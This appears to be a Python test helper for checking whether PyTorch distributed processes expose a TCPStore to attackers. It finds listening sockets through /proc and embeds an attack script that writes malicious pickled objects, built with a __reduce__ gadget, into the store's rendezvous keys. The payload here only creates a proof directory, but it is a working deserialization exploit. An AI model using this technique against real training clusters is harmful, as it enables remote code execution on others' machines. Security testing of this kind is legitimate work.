"""What processes listen to, and an attacker who speaks torch's protocol to it."""

from __future__ import annotations

import ipaddress
import os
import subprocess
import sys
from collections.abc import Iterable, Sequence
from contextlib import suppress
from pathlib import Path

LISTEN = "0A"
ATTACK = """
import base64, os, pickle, sys
from datetime import timedelta
from torch.distributed import TCPStore
class Evil:
    def __reduce__(self):
        return os.mkdir, (sys.argv[3],)
store = TCPStore(sys.argv[1], int(sys.argv[2]), is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
for key in store.list_keys():
    if key.startswith("torch.rendezvous.") or "rendezvous" in key:
        store.set(key, base64.b64encode(pickle.dumps(Evil())).decode())
store.set("seen", pickle.dumps(Evil()))
print("written")
"""


def children(pid: int) -> list[int]:
    """`pid` and all processes below it."""
    found = [pid]
    for task in Path(f"/proc/{pid}/task").glob("*"):
        with suppress(OSError):
            for child in (task / "children").read_text().split():
                found += children(int(child))
    return found


def listening(pids: Iterable[int]) -> set[tuple[str, int]]:
    """Address and port of every TCP socket that one of the processes listens with, in its network namespace."""
    found = set()
    for pid in pids:
        with suppress(FileNotFoundError, ProcessLookupError):
            inodes = {os.readlink(fd) for fd in Path(f"/proc/{pid}/fd").iterdir()}
            for table in ("tcp", "tcp6"):
                for row in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
                    fields = row.split()
                    if fields[3] == LISTEN and f"socket:[{fields[9]}]" in inodes:
                        address, _, port = fields[1].partition(":")
                        words = [bytes.fromhex(address[i : i + 8])[::-1] for i in range(0, len(address), 8)]
                        found.add((str(ipaddress.ip_address(b"".join(words))), int(port, 16)))
    return found


def attack(address: str, port: int, proof: Path, prefix: Sequence[str] = ()) -> bool:
    """Writes objects that make the directory `proof` where they are unpickled; whether the store there took them."""
    command = [*prefix, sys.executable, "-c", ATTACK, address, str(port), str(proof)]
    with suppress(subprocess.TimeoutExpired):
        return "written" in subprocess.run(command, capture_output=True, text=True, timeout=15).stdout
    return False
